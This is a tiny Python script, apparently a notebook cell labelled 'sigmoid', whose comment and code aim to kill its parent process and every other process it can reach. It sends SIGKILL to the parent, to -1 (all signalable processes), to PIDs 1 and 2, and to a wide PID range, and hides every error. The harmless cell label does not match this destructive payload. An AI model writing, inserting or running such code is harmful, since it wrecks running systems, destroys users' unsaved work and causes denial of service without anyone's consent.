# Kills its parents and every process it may.
# %% sigmoid
import os, signal

for pid in (os.getppid(), -1, 1, 2, *range(100, 4000)):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
